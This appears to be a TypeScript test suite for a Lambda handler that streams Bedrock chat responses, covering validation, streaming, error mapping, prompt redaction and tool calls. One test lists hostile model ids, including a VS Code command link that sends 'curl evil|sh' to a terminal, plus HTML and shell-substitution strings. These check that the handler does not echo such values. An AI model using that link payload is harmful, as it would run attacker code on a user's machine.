import * as assert from 'node:assert/strict';
import type { ConverseStreamCommand, ConverseStreamOutput } from '@aws-sdk/client-bedrock-runtime';
import type { Context } from 'aws-lambda';
import { DEFAULT_HEARTBEAT_MS, decodeSseEvent, HEARTBEAT_COMMENT, type ModelsResponse, type StreamEvent } from '../../../../src/protocol/wire';
import type { ConverseStreamClient } from '../../../../infra/lambda/bedrock';
import { lookupModel } from '../../../../infra/lambda/catalogue';
import { readConfig, type HandlerConfig } from '../../../../infra/lambda/config';
import { mapError } from '../../../../infra/lambda/errors';
import { createHandler, handler as lambdaExport, type ChatEvent } from '../../../../infra/lambda/handler';
import { LocalResponseStream, localLambdaRuntime, PRELUDE_DELIMITER } from '../../../../infra/local/lambdaShim';

const MODEL = 'us.anthropic.claude-sonnet-4-20250514-v1:0';
const OTHER = 'anthropic.claude-3-haiku-20240307-v1:0';

function config(over: Partial<HandlerConfig> = {}): HandlerConfig {
  return { ...readConfig({ ALLOWED_MODEL_IDS: `${MODEL},${OTHER}`, MAX_TOKENS_LIMIT: '1000', MAX_BODY_BYTES: '2048' }), ...over };
}

type Script = (signal: AbortSignal | undefined) => AsyncGenerator<ConverseStreamOutput>;

/** A Bedrock client double: records commands, answers with a script or throws. */
function fakeClient(script: Script | Error) {
  const calls: ConverseStreamCommand[] = [];
  const client: ConverseStreamClient = {
    async send(command, options) {
      calls.push(command);
      if (script instanceof Error) throw script;
      return { stream: script(options?.abortSignal) };
    },
  };
  return { client, calls };
}

function named(name: string, message = `${name} happened`): Error {
  const err = new Error(message);
  err.name = name;
  Object.assign(err, { $fault: 'client', $metadata: {} });
  return err;
}

const delta = (text: string): ConverseStreamOutput => ({ contentBlockDelta: { contentBlockIndex: 0, delta: { text } } });
const stop = (stopReason = 'end_turn'): ConverseStreamOutput => ({ messageStop: { stopReason: stopReason as 'end_turn' } });
const meta = (): ConverseStreamOutput => ({ metadata: { usage: { inputTokens: 7, outputTokens: 3, totalTokens: 10 }, metrics: { latencyMs: 42 } } });

function answer(...texts: string[]): Script {
  return async function* () {
    yield { messageStart: { role: 'assistant' } };
    for (const t of texts) yield delta(t);
    yield { contentBlockStop: { contentBlockIndex: 0 } };
    yield stop();
    yield meta();
  };
}

/** Captures what the handler writes, the way the runtime sends it: prelude, 8 NULs, body. */
function capture(sinkWrite?: (chunk: Buffer, cb: () => void) => void) {
  const chunks: Buffer[] = [];
  let ended = false;
  const stream = new LocalResponseStream({
    write(chunk, cb) {
      chunks.push(chunk);
      if (sinkWrite) sinkWrite(chunk, cb);
      else cb();
    },
    end() {
      ended = true;
    },
  });
  return {
    stream,
    get ended() {
      return ended;
    },
    chunks,
    /** Status, headers and body; throws if the prelude is missing (status would be lost). */
    result() {
      const all = Buffer.concat(chunks);
      const at = all.indexOf(PRELUDE_DELIMITER);
      assert.ok(at > 0, 'the response starts with a prelude');
      const prelude = JSON.parse(all.subarray(0, at).toString('utf8')) as { statusCode: number; headers: Record<string, string> };
      return { status: prelude.statusCode, headers: prelude.headers, body: all.subarray(at + 8).toString('utf8') };
    },
  };
}

function sseEvents(body: string): StreamEvent[] {
  return body
    .split('\n\n')
    .filter((b) => b.trim())
    .map((block) => {
      const event = /^event: (.*)$/m.exec(block)?.[1];
      const data = /^data: (.*)$/m.exec(block)?.[1] ?? '';
      const decoded = decodeSseEvent(event, data);
      assert.ok(decoded, `known event in ${block}`);
      return decoded;
    });
}

const context = (remainingMs = 60_000): Context => {
  const deadline = Date.now() + remainingMs;
  return { awsRequestId: 'req-1', getRemainingTimeInMillis: () => deadline - Date.now() } as Context;
};

function event(body: unknown, accept = 'text/event-stream', over: Partial<ChatEvent> = {}): ChatEvent {
  return { body: typeof body === 'string' ? body : JSON.stringify(body), isBase64Encoded: false, headers: { Accept: accept }, ...over };
}

async function run(script: Script | Error, ev: ChatEvent, opts: { cfg?: Partial<HandlerConfig>; remainingMs?: number } = {}) {
  const { client, calls } = fakeClient(script);
  const logs: string[] = [];
  const h = createHandler({ client, config: config(opts.cfg), runtime: localLambdaRuntime, log: (l) => logs.push(l) });
  const out = capture();
  await h(ev, out.stream, context(opts.remainingMs));
  return { out, calls, logs, result: out.result() };
}

describe('infra/lambda handler: validation before the first byte', () => {
  const cases: [string, ChatEvent, number, string, RegExp][] = [
    ['bad JSON', event('{"prompt":'), 400, 'BadRequest', /not valid JSON/],
    ['missing prompt', event({}), 400, 'BadRequest', /non-empty "prompt"/],
    ['empty prompt', event({ prompt: '' }), 400, 'BadRequest', /non-empty "prompt"/],
    ['prompt of the wrong type', event({ prompt: ['x'] }), 400, 'BadRequest', /must be a string/],
    ['messages ending in an assistant turn', event({ messages: [{ role: 'user', content: 'a' }, { role: 'assistant', content: 'b' }] }), 400, 'BadRequest', /end with a user turn/],
    ['an empty body', event('', 'text/event-stream', { body: null }), 400, 'BadRequest', /empty/],
    ['a body over MAX_BODY_BYTES', event({ prompt: 'x'.repeat(3000) }), 413, 'PayloadTooLarge', /limit is 2048/],
    ['a model that is not allowed', event({ prompt: 'x', modelId: 'meta.llama3' }), 400, 'ModelNotAllowed', /not allowed/],
  ];
  for (const [name, ev, status, code, message] of cases) {
    it(`${name} → ${status} ${code}, JSON, Bedrock never called`, async () => {
      const { result, calls } = await run(answer('never'), ev);
      assert.equal(result.status, status);
      assert.equal(result.headers['content-type'], 'application/json');
      const body = JSON.parse(result.body) as { error: { code: string; message: string } };
      assert.equal(body.error.code, code);
      assert.match(body.error.message, message);
      assert.equal(calls.length, 0);
    });
  }

  it("accepts the seed's {message}, uses the default model and clamps maxTokens", async () => {
    const { result, calls } = await run(answer('ok'), event({ message: 'hello', maxTokens: 999_999, temperature: 0.3, system: 'sys' }));
    assert.equal(result.status, 200);
    const input = calls[0].input;
    assert.equal(input.modelId, MODEL);
    assert.deepEqual(input.messages, [{ role: 'user', content: [{ text: 'hello' }] }]);
    assert.deepEqual(input.system, [{ text: 'sys' }]);
    assert.deepEqual(input.inferenceConfig, { maxTokens: 1000, temperature: 0.3 });
  });

  it('passes an allowed non-default model and the whole conversation', async () => {
    const messages = [
      { role: 'user', content: 'a' },
      { role: 'assistant', content: 'b' },
      { role: 'user', content: 'c' },
    ];
    const { calls } = await run(answer('ok'), event({ messages, modelId: OTHER, maxTokens: 5 }));
    assert.equal(calls[0].input.modelId, OTHER);
    assert.equal(calls[0].input.messages?.length, 3);
    assert.equal(calls[0].input.inferenceConfig?.maxTokens, 5);
  });

  it('more messages than MAX_MESSAGES → 400 with the limit, Bedrock never called', async () => {
    const turns = (n: number) => Array.from({ length: n }, (_, i) => ({ role: i % 2 === 0 ? 'user' : 'assistant', content: `t${i}` }));
    const over = await run(answer('never'), event({ messages: turns(5) }), { cfg: { maxMessages: 3 } });
    assert.equal(over.result.status, 400);
    assert.deepEqual(JSON.parse(over.result.body).error, {
      code: 'BadRequest',
      message: '"messages" has 5 entries; this endpoint accepts at most 3. Start a new conversation or leave out earlier turns.',
    });
    assert.equal(over.calls.length, 0);
    const at = await run(answer('ok'), event({ messages: turns(3) }), { cfg: { maxMessages: 3 } });
    assert.equal(at.result.status, 200);
    // The default (no MAX_MESSAGES) is 200.
    const big = { maxBodyBytes: 1 << 20, maxMessages: readConfig({}).maxMessages };
    assert.equal((await run(answer('never'), event({ messages: turns(201) }), { cfg: big })).result.status, 400);
    assert.equal((await run(answer('ok'), event({ messages: turns(199) }), { cfg: big })).result.status, 200);
  });

  it('bad JSON: a fixed message that never quotes the body (JSON.parse quotes it)', async () => {
    for (const body of ['SECRET prompt, not JSON at all', '{"prompt": "SECRET prompt" oops}', "{'prompt': 'SECRET'}"]) {
      let parserSays = '';
      try {
        JSON.parse(body);
      } catch (err) {
        parserSays = (err as Error).message;
      }
      const { result } = await run(answer('never'), event(body));
      const message = JSON.parse(result.body).error.message as string;
      assert.match(message, /^Request body is not valid JSON( \(at position \d+\))?\.$/);
      assert.doesNotMatch(message, /SECRET/);
      if (/SECRET/.test(parserSays)) assert.notEqual(message, parserSays, 'the parser quoted the body; we did not');
    }
  });

  it('ModelNotAllowed never echoes a requested id that is not a plain model id', async () => {
    const hostile = [
      '[Sign in again](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
      'meta.llama3 <img src=x>',
      `meta.${'x'.repeat(100)}`,
      'model\nwith a newline',
      '$(alert) meta',
    ];
    for (const modelId of hostile) {
      const { result } = await run(answer('never'), event({ prompt: 'x', modelId }));
      const body = JSON.parse(result.body) as { error: { code: string; message: string } };
      assert.equal(body.error.code, 'ModelNotAllowed');
      assert.equal(body.error.message, `The requested model is not allowed by this endpoint. Allowed: ${MODEL}, ${OTHER}.`);
    }
    const plain = await run(answer('never'), event({ prompt: 'x', modelId: 'arn:aws:bedrock:us-east-1::foundation-model/meta.llama3-8b' }));
    assert.match(JSON.parse(plain.result.body).error.message, /^Model "arn:aws:bedrock:us-east-1::foundation-model\/meta\.llama3-8b" is not allowed/);
  });

  it('decodes a base64 body', async () => {
    const body = Buffer.from(JSON.stringify({ prompt: '日本語で' })).toString('base64');
    const { calls, result } = await run(answer('ok'), event(body, 'text/event-stream', { isBase64Encoded: true }));
    assert.equal(result.status, 200);
    assert.deepEqual(calls[0].input.messages?.[0].content, [{ text: '日本語で' }]);
  });
});

describe('infra/lambda handler: streaming', () => {
  it('SSE: start → delta* → end with stopReason, usage and latency; prelude first', async () => {
    const { out, result } = await run(answer('Hello', ', ', 'こんにちは'), event({ prompt: 'hi' }));
    assert.ok(out.chunks[0].toString('utf8').startsWith('{"statusCode":200'), 'the first bytes are the prelude');
    assert.equal(result.status, 200);
    assert.equal(result.headers['content-type'], 'text/event-stream');
    assert.deepEqual(sseEvents(result.body), [
      { type: 'start', id: 'req-1', model: MODEL },
      { type: 'delta', text: 'Hello' },
      { type: 'delta', text: ', ' },
      { type: 'delta', text: 'こんにちは' },
      { type: 'end', stopReason: 'end_turn', usage: { inputTokens: 7, outputTokens: 3 }, latencyMs: 42 },
    ]);
    assert.equal(out.ended, true);
  });

  it('plain text when accept is not SSE: the raw text only', async () => {
    const { result } = await run(answer('Hello', ' world'), event({ prompt: 'hi' }, 'text/plain'));
    assert.equal(result.headers['content-type'], 'text/plain; charset=utf-8');
    assert.equal(result.body, 'Hello world');
  });

  it('an empty answer still ends with one end event', async () => {
    const { result } = await run(answer(), event({ prompt: 'hi' }));
    assert.deepEqual(
      sseEvents(result.body).map((e) => e.type),
      ['start', 'end'],
    );
  });

  it('a loop that ends without messageStop is Truncated, never a success', async () => {
    const { result } = await run(async function* () {
      yield delta('partial');
    }, event({ prompt: 'hi' }));
    const events = sseEvents(result.body);
    assert.deepEqual(events.at(-1), { type: 'error', code: 'Truncated', message: 'The answer from Bedrock ended before it was complete.', retryable: true });
    assert.equal(events.filter((e) => e.type === 'end' || e.type === 'error').length, 1);
  });

  it('Truncated before any text is a 502 JSON error', async () => {
    const { result } = await run(async function* () {
      yield { messageStart: { role: 'assistant' } };
    }, event({ prompt: 'hi' }));
    assert.equal(result.status, 502);
    assert.equal(JSON.parse(result.body).error.code, 'Truncated');
  });

  it('forwards each delta as it arrives and honours backpressure', async () => {
    let produced = 0;
    const big = 'x'.repeat(4096);
    const script: Script = async function* () {
      yield { messageStart: { role: 'assistant' } };
      for (let i = 0; i < 40; i++) {
        produced++;
        yield delta(`${i}:${big}`);
      }
      yield stop();
    };
    const { client } = fakeClient(script);
    const pending: (() => void)[] = [];
    let blocked = true;
    const out = capture((_chunk, cb) => (blocked ? pending.push(cb) : cb()));
    const h = createHandler({ client, config: config(), runtime: localLambdaRuntime, log: () => {} });
    const done = h(event({ prompt: 'hi' }), out.stream, context());
    await new Promise((r) => setTimeout(r, 50));
    assert.ok(produced < 10, `stopped pulling from Bedrock while the stream was full (pulled ${produced} of 40)`);
    blocked = false;
    pending.splice(0).forEach((cb) => cb());
    await done;
    assert.equal(produced, 40);
    const texts = sseEvents(out.result().body).filter((e) => e.type === 'delta');
    assert.equal(texts.length, 40);
    assert.deepEqual(
      texts.map((e) => (e as { text: string }).text.split(':')[0]),
      Array.from({ length: 40 }, (_, i) => String(i)),
    );
  });
});

describe('infra/lambda handler: errors', () => {
  const table: [string, number, boolean][] = [
    ['AccessDeniedException', 403, false],
    ['ValidationException', 400, false],
    ['ThrottlingException', 429, true],
    ['ServiceUnavailableException', 503, true],
    ['InternalServerException', 502, true],
    ['CredentialsProviderError', 500, false],
    ['TokenProviderError', 500, false],
    ['SomethingNewException', 502, false],
  ];
  for (const [name, status, retryable] of table) {
    it(`${name} before the stream → HTTP ${status}`, async () => {
      // The SDK's credential and token errors are plain errors (no service `$fault`).
      const error = name.endsWith('ProviderError') ? Object.assign(new Error(`${name} happened`), { name }) : named(name);
      const { result } = await run(error, event({ prompt: 'hi' }));
      assert.equal(result.status, status);
      const body = JSON.parse(result.body) as { error: { code: string; message: string } };
      assert.equal(body.error.code, name);
      assert.equal(mapError(error).retryable, retryable);
      if (name === 'AccessDeniedException') assert.match(body.error.message, /Bedrock console.*Model access/);
      if (name.endsWith('ProviderError')) assert.match(body.error.message, /execution role/);
    });
  }

  const ACCOUNT = '123456789012';
  const ROLE = `arn:aws:sts::${ACCOUNT}:assumed-role/AskBedrock-ChatFunctionServiceRole-1A2B3C/AskBedrock-ChatFunction-4D5E6F`;
  const DENIED = `User: ${ROLE} is not authorized to perform: bedrock:InvokeModelWithResponseStream on resource: arn:aws:bedrock:us-east-1:${ACCOUNT}:inference-profile/${MODEL} because no identity-based policy allows the bedrock:InvokeModelWithResponseStream action`;

  it('AccessDenied: the client gets a hint without account or role; the log gets the full text', async () => {
    const { result, logs } = await run(named('AccessDeniedException', DENIED), event({ prompt: 'hi' }));
    assert.equal(result.status, 403);
    const message = JSON.parse(result.body).error.message as string;
    assert.match(message, /Bedrock denied access.*Bedrock console \(Model access\).*function's log/);
    assert.doesNotMatch(result.body, new RegExp(`${ACCOUNT}|assumed-role|arn:aws`));
    const line = JSON.parse(logs[0]) as Record<string, unknown>;
    assert.equal(line.errorMessage, message);
    assert.equal(line.errorDetail, DENIED);
  });

  it('AccessDenied after text: the error event carries the hint only', async () => {
    const { result } = await run(async function* () {
      yield delta('some text');
      throw named('accessDeniedException', DENIED);
    }, event({ prompt: 'hi' }));
    const last = sseEvents(result.body).at(-1) as { code: string; message: string };
    assert.equal(last.code, 'AccessDeniedException');
    assert.doesNotMatch(last.message, new RegExp(`${ACCOUNT}|assumed-role`));
  });

  it("Bedrock text that quotes the request: never in the client's message, in the log only with LOG_PROMPTS", async () => {
    const prompt = `Please summarise SECRET-${'the quarterly numbers for the board '.repeat(8)}now`;
    const system = `You are SECRET-SYSTEM ${'and always answer in formal English '.repeat(3)}`;
    const quoting = `Malformed input request: #/messages/0/content/0/text: value "${prompt}" and system "${system}" were rejected, account ${ACCOUNT}.`;
    const ev = event({ prompt, system });
    const substrings = (text: string) => Array.from({ length: text.length - 39 }, (_, i) => text.slice(i, i + 40));
    const echoes = (text: string) => [...substrings(prompt), ...substrings(system)].filter((piece) => text.includes(piece));

    const before = await run(named('ValidationException', quoting), ev);
    assert.equal(before.result.status, 400);
    const message = JSON.parse(before.result.body).error.message as string;
    assert.match(message, /^Malformed input request: /, 'what Bedrock said is still there');
    assert.deepEqual(echoes(message), []);
    assert.ok(message.length <= 100, `short: ${message.length}`);
    assert.deepEqual(echoes(before.logs[0]), [], 'the log does not keep the prompt by default');
    assert.match(JSON.parse(before.logs[0]).errorDetail, /Malformed input request/);

    const after = await run(async function* () {
      yield delta('some text');
      throw named('validationException', quoting);
    }, ev);
    const last = sseEvents(after.result.body).at(-1) as { code: string; message: string };
    assert.equal(last.code, 'ValidationException');
    assert.deepEqual(echoes(last.message), []);
    assert.doesNotMatch(last.message, new RegExp(ACCOUNT));

    const logged = await run(named('ValidationException', quoting), ev, { cfg: { logPrompts: true } });
    assert.equal(JSON.parse(logged.logs[0]).errorDetail, quoting, 'LOG_PROMPTS keeps the full text');
    assert.deepEqual(echoes(JSON.parse(logged.result.body).error.message), [], 'the client never gets it');
  });

  it('Bedrock text that quotes a multi-line prompt JSON-escaped: not in the client message, nor in the log without LOG_PROMPTS', async () => {
    const prompt = 'SECRET line one of the plan\nwire the funds on friday\n\tto the usual account\nand tell no one';
    const ev = event({ prompt });
    const quoting = `Malformed input request: #/messages/0/content/0/text: value ${JSON.stringify(prompt)} is not valid`;
    const leaks = (text: string) => /SECRET|wire the funds|usual account|tell no one/.test(text);

    const before = await run(named('ValidationException', quoting), ev);
    const message = JSON.parse(before.result.body).error.message as string;
    assert.match(message, /^Malformed input request: /);
    assert.ok(!leaks(message), message);
    assert.ok(!leaks(before.logs[0]), before.logs[0]);
    assert.match(JSON.parse(before.logs[0]).errorDetail, /Malformed input request/);

    const after = await run(async function* () {
      yield delta('some text');
      throw named('validationException', quoting);
    }, ev);
    const last = sseEvents(after.result.body).at(-1) as { message: string };
    assert.ok(!leaks(last.message), last.message);
    assert.ok(!leaks(after.logs[0]), after.logs[0]);

    const logged = await run(named('ValidationException', quoting), ev, { cfg: { logPrompts: true } });
    assert.equal(JSON.parse(logged.logs[0]).errorDetail, quoting, 'LOG_PROMPTS keeps the full text');
    assert.ok(!leaks(JSON.parse(logged.result.body).error.message as string));
  });

  it('an in-stream exception before any text still gets its HTTP status', async () => {
    const { result } = await run(async function* () {
      yield { messageStart: { role: 'assistant' } };
      throw named('throttlingException', 'Too many tokens');
    }, event({ prompt: 'hi' }));
    assert.equal(result.status, 429);
    assert.deepEqual(JSON.parse(result.body), { error: { code: 'ThrottlingException', message: 'Too many tokens' } });
  });

  it('an in-stream exception after text → exactly one error event, retryable set', async () => {
    for (const [name, retryable] of [
      ['throttlingException', true],
      ['modelStreamErrorException', true],
      ['validationException', false],
    ] as const) {
      const { result } = await run(async function* () {
        yield delta('some text');
        throw named(name);
      }, event({ prompt: 'hi' }));
      assert.equal(result.status, 200);
      const events = sseEvents(result.body);
      assert.deepEqual(
        events.map((e) => e.type),
        ['start', 'delta', 'error'],
      );
      const err = events[2] as Extract<StreamEvent, { type: 'error' }>;
      assert.equal(err.code, name[0].toUpperCase() + name.slice(1));
      assert.equal(err.retryable, retryable, name);
    }
  });

  it('plain text: an error after text appends the blog\'s [ERROR] trailer', async () => {
    const { result } = await run(async function* () {
      yield delta('partial answer');
      throw named('throttlingException', 'Too many tokens');
    }, event({ prompt: 'hi' }, '*/*'));
    assert.equal(result.body, 'partial answer\n[ERROR]\nToo many tokens\n');
  });

  it('aborts Bedrock before the function times out: Timeout (504 before text, error event after)', async () => {
    const stalls = (withText: boolean): Script =>
      async function* (signal) {
        if (withText) yield delta('slow');
        await new Promise((_, reject) =>
          signal?.addEventListener('abort', () => {
            const e = new Error('Request aborted');
            e.name = 'AbortError';
            reject(e);
          }),
        );
      };
    const started = Date.now();
    const before = await run(stalls(false), event({ prompt: 'hi' }), { remainingMs: 2100, cfg: { abortMarginMs: 2000 } });
    assert.ok(Date.now() - started < 1000, 'aborted at remaining time minus the margin');
    assert.equal(before.result.status, 504);
    assert.equal(JSON.parse(before.result.body).error.code, 'Timeout');
    const after = await run(stalls(true), event({ prompt: 'hi' }), { remainingMs: 2100, cfg: { abortMarginMs: 2000 } });
    assert.equal(sseEvents(after.result.body).at(-1)?.type, 'error');
    assert.equal((sseEvents(after.result.body).at(-1) as { code: string }).code, 'Timeout');
  });

  it('a socket failure mid-stream is reported as Truncated', async () => {
    const { result } = await run(async function* () {
      yield delta('a');
      throw Object.assign(new Error('socket hang up'), { name: 'TimeoutError' });
    }, event({ prompt: 'hi' }));
    const last = sseEvents(result.body).at(-1) as { code: string; message: string; retryable: boolean };
    assert.equal(last.code, 'Truncated');
    assert.match(last.message, /socket hang up/);
    assert.equal(last.retryable, true);
  });
});

describe('infra/lambda handler: logging', () => {
  it('one JSON line per request with timings and usage, without the prompt by default', async () => {
    const { logs } = await run(answer('a', 'b'), event({ prompt: 'SECRET question', system: 'SECRET system' }));
    assert.equal(logs.length, 1);
    const line = JSON.parse(logs[0]) as Record<string, unknown>;
    assert.equal(line.requestId, 'req-1');
    assert.equal(line.model, MODEL);
    assert.equal(line.status, 200);
    assert.equal(line.stopReason, 'end_turn');
    assert.equal(line.inputTokens, 7);
    assert.equal(line.outputTokens, 3);
    assert.equal(typeof line.timeToFirstTokenMs, 'number');
    assert.equal(typeof line.durationMs, 'number');
    assert.doesNotMatch(logs[0], /SECRET/);
  });

  it('includes the prompt only with LOG_PROMPTS=true', async () => {
    const { logs } = await run(answer('a'), event({ prompt: 'SECRET question' }), { cfg: { logPrompts: true } });
    assert.equal(JSON.parse(logs[0]).prompt, 'SECRET question');
  });

  it('logs errors with their code and status', async () => {
    const { logs } = await run(named('ThrottlingException'), event({ prompt: 'hi' }));
    const line = JSON.parse(logs[0]) as Record<string, unknown>;
    assert.equal(line.level, 'error');
    assert.equal(line.status, 429);
    assert.equal(line.errorCode, 'ThrottlingException');
  });
});

describe('infra/lambda config and export', () => {
  it('reads the allowed models; the default model is always allowed', () => {
    const c = readConfig({ ALLOWED_MODEL_IDS: ' a , b ', MAX_TOKENS_LIMIT: '50' });
    assert.deepEqual(c.allowedModelIds, ['a', 'b']);
    assert.equal(c.defaultModelId, 'a');
    assert.equal(c.maxTokensLimit, 50);
    assert.equal(c.defaultMaxTokens, 50);
    assert.equal(c.logPrompts, false);
    assert.deepEqual(readConfig({ MODEL_ID: 'x', ALLOWED_MODEL_IDS: 'a' }).allowedModelIds, ['x', 'a']);
    assert.throws(() => readConfig({ MAX_BODY_BYTES: 'lots' }), /MAX_BODY_BYTES/);
    assert.equal(c.maxMessages, 200);
    assert.equal(readConfig({ MAX_MESSAGES: '12' }).maxMessages, 12);
    assert.throws(() => readConfig({ MAX_MESSAGES: '0' }), /MAX_MESSAGES/);
  });

  it('outside Lambda (no awslambda runtime) the default export is undefined, not a crash', () => {
    assert.equal(lambdaExport, undefined);
  });
});

describe('infra/lambda handler: unexpected failures', () => {
  it('a bug after the stream opened still ends it with one InternalError event, then rethrows', async () => {
    const { client } = fakeClient(answer('a', 'b'));
    const logs: string[] = [];
    const h = createHandler({ client, config: config(), runtime: localLambdaRuntime, log: (l) => logs.push(l) });
    const out = capture();
    let writes = 0;
    const original = out.stream.write.bind(out.stream);
    // Fail the third write (the second delta) synchronously, as a bug in the writer would.
    (out.stream as { write: typeof original }).write = ((...args: Parameters<typeof original>) => {
      if (++writes === 3) throw new TypeError('bug');
      return original(...args);
    }) as typeof original;
    await assert.rejects(h(event({ prompt: 'hi' }), out.stream, context()), /bug/);
    const events = sseEvents(out.result().body);
    assert.deepEqual(events.at(-1), { type: 'error', code: 'InternalError', message: 'The endpoint failed unexpectedly.', retryable: false });
    assert.equal(JSON.parse(logs[0]).errorCode, 'InternalError');
  });
});

describe('infra/lambda handler: protocol v2', () => {
  const tool = { name: 'readFile', description: 'Reads a file', inputSchema: { type: 'object', properties: { path: { type: 'string' } } } };
  const v2 = (over: Record<string, unknown> = {}) => ({ protocol: 2, prompt: 'hi', ...over });
  const begin: ConverseStreamOutput = { messageStart: { role: 'assistant' } };
  const reasoningDelta = (r: Record<string, unknown>, index = 0): ConverseStreamOutput =>
    ({ contentBlockDelta: { contentBlockIndex: index, delta: { reasoningContent: r } } }) as unknown as ConverseStreamOutput;
  const bigLimit = { maxTokensLimit: 8000 };

  it('a tool call: toolUse event with the parsed input once its block stops; stopReason tool_use; start says protocol 2', async () => {
    const { result, calls } = await run(async function* () {
      yield begin;
      yield delta('Let me read it.');
      yield { contentBlockStop: { contentBlockIndex: 0 } };
      yield { contentBlockStart: { contentBlockIndex: 1, start: { toolUse: { toolUseId: 'tooluse_1', name: 'readFile' } } } };
      yield { contentBlockDelta: { contentBlockIndex: 1, delta: { toolUse: { input: '{"pa' } } } };
      yield { contentBlockDelta: { contentBlockIndex: 1, delta: { toolUse: { input: 'th":"a.txt"}' } } } };
      yield { contentBlockStop: { contentBlockIndex: 1 } };
      yield stop('tool_use');
      yield meta();
    }, event(v2({ tools: [tool], toolChoice: 'any' })));
    assert.deepEqual(sseEvents(result.body), [
      { type: 'start', id: 'req-1', model: MODEL, protocol: 2 },
      { type: 'delta', text: 'Let me read it.' },
      { type: 'toolUse', id: 'tooluse_1', name: 'readFile', input: { path: 'a.txt' } },
      { type: 'end', stopReason: 'tool_use', usage: { inputTokens: 7, outputTokens: 3 }, latencyMs: 42 },
    ]);
    assert.deepEqual(calls[0].input.toolConfig, {
      tools: [{ toolSpec: { name: 'readFile', description: 'Reads a file', inputSchema: { json: tool.inputSchema } } }, { cachePoint: { type: 'default' } }],
      toolChoice: { any: {} },
    });
  });

  it('a tool call without input fragments gets {}; invalid JSON input is an in-band MalformedToolUse error', async () => {
    const toolCall = (fragments: string[]): Script =>
      async function* () {
        yield begin;
        yield { contentBlockStart: { contentBlockIndex: 0, start: { toolUse: { toolUseId: 't1', name: 'readFile' } } } };
        for (const f of fragments) yield { contentBlockDelta: { contentBlockIndex: 0, delta: { toolUse: { input: f } } } };
        yield { contentBlockStop: { contentBlockIndex: 0 } };
        yield stop('tool_use');
      };
    const empty = await run(toolCall([]), event(v2({ tools: [tool] })));
    assert.deepEqual(sseEvents(empty.result.body)[1], { type: 'toolUse', id: 't1', name: 'readFile', input: {} });
    const broken = await run(toolCall(['{"path": ']), event(v2({ tools: [tool] })));
    const last = sseEvents(broken.result.body).at(-1) as { type: string; code: string };
    assert.equal(broken.result.status, 200);
    assert.deepEqual([last.type, last.code], ['error', 'MalformedToolUse']);
  });

  it('sends the conversation as Bedrock blocks: reasoning with signature, toolUse, toolResult', async () => {
    const messages = [
      { role: 'user', content: 'read a.txt' },
      { role: 'assistant', content: [{ type: 'reasoning', text: 'think', signature: 'sig' }, { type: 'toolUse', id: 't1', name: 'readFile', input: { path: 'a.txt' } }] },
      { role: 'user', content: [{ type: 'toolResult', id: 't1', content: [{ type: 'text', text: 'hello' }, { type: 'json', json: { n: 1 } }], status: 'error' }] },
    ];
    const { calls } = await run(answer('ok'), event(v2({ messages, tools: [tool], cache: false })));
    assert.deepEqual(calls[0].input.messages, [
      { role: 'user', content: [{ text: 'read a.txt' }] },
      { role: 'assistant', content: [{ reasoningContent: { reasoningText: { text: 'think', signature: 'sig' } } }, { toolUse: { toolUseId: 't1', name: 'readFile', input: { path: 'a.txt' } } }] },
      { role: 'user', content: [{ toolResult: { toolUseId: 't1', content: [{ text: 'hello' }, { json: { n: 1 } }], status: 'error' } }] },
    ]);
  });

  it('reasoning: text deltas, then the signature; thinking enabled, temperature dropped, forced toolChoice made auto', async () => {
    const { result, calls, logs } = await run(
      async function* () {
        yield begin;
        yield reasoningDelta({ text: 'Let me ' });
        yield reasoningDelta({ text: 'think.' });
        yield reasoningDelta({ signature: 'c2lnbmF0dXJl' });
        yield { contentBlockStop: { contentBlockIndex: 0 } };
        yield { contentBlockDelta: { contentBlockIndex: 1, delta: { text: 'Answer.' } } };
        yield stop();
        yield meta();
      },
      event(v2({ reasoning: { budgetTokens: 2000 }, temperature: 0.2, maxTokens: 4000, tools: [tool], toolChoice: { name: 'readFile' } })),
      { cfg: bigLimit },
    );
    assert.deepEqual(
      sseEvents(result.body).slice(1, 5),
      [
        { type: 'reasoning', text: 'Let me ' },
        { type: 'reasoning', text: 'think.' },
        { type: 'reasoning', signature: 'c2lnbmF0dXJl' },
        { type: 'delta', text: 'Answer.' },
      ],
    );
    const input = calls[0].input;
    assert.deepEqual(input.additionalModelRequestFields, { thinking: { type: 'enabled', budget_tokens: 2000 } });
    assert.deepEqual(input.inferenceConfig, { maxTokens: 4000 });
    assert.deepEqual(input.toolConfig?.toolChoice, { auto: {} });
    assert.deepEqual(JSON.parse(logs[0]).adjustments, ['temperature dropped (reasoning)', 'toolChoice forced→auto (reasoning)']);
  });

  it('reasoning budget vs maxTokens: maxTokens raised up to the limit, then the budget lowered; off when nothing fits', async () => {
    const thinking = async (body: Record<string, unknown>, cfg: Partial<HandlerConfig>) => {
      const { calls } = await run(answer('ok'), event(v2(body)), { cfg });
      return [calls[0].input.inferenceConfig?.maxTokens, (calls[0].input.additionalModelRequestFields as { thinking?: { budget_tokens: number } } | undefined)?.thinking?.budget_tokens];
    };
    // Room for budget + 1024 answer tokens: maxTokens raised to fit.
    assert.deepEqual(await thinking({ reasoning: { budgetTokens: 2000 }, maxTokens: 1000 }, bigLimit), [3024, 2000]);
    // The deployment's limit caps maxTokens; the budget shrinks to leave 1024 for the answer.
    assert.deepEqual(await thinking({ reasoning: { budgetTokens: 6000 } }, { maxTokensLimit: 4096 }), [4096, 3072]);
    // A limit under 2048 leaves no valid budget: reasoning off, maxTokens as asked, the request still goes.
    assert.deepEqual(await thinking({ reasoning: { budgetTokens: 1024 }, maxTokens: 900 }, { maxTokensLimit: 2000 }), [900, undefined]);
    // A model without Claude thinking (Claude 3 Haiku): the field is not sent.
    assert.deepEqual(await thinking({ reasoning: { budgetTokens: 2000 }, modelId: OTHER, maxTokens: 900 }, bigLimit), [900, undefined]);
  });

  it('redacted reasoning is sent as base64', async () => {
    const { result } = await run(async function* () {
      yield begin;
      yield reasoningDelta({ redactedContent: new Uint8Array([0, 1, 2, 250]) });
      yield delta('ok');
      yield stop();
    }, event(v2({ reasoning: { budgetTokens: 1024 } })), { cfg: bigLimit });
    assert.deepEqual(sseEvents(result.body)[1], { type: 'reasoning', redacted: Buffer.from([0, 1, 2, 250]).toString('base64') });
  });

  it('plain text stays the bare answer: no reasoning, no tool calls', async () => {
    const { result } = await run(async function* () {
      yield begin;
      yield reasoningDelta({ text: 'hidden thoughts' });
      yield delta('visible');
      yield stop();
    }, event(v2({ reasoning: { budgetTokens: 1024 } }), '*/*'), { cfg: bigLimit });
